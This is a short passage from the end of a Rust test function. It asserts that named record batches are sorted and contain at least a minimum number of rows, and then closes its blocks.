                "{name} sorted"
            );
            assert!(batch.num_rows() >= 200 / 20, "{name}");
        }
    }
}
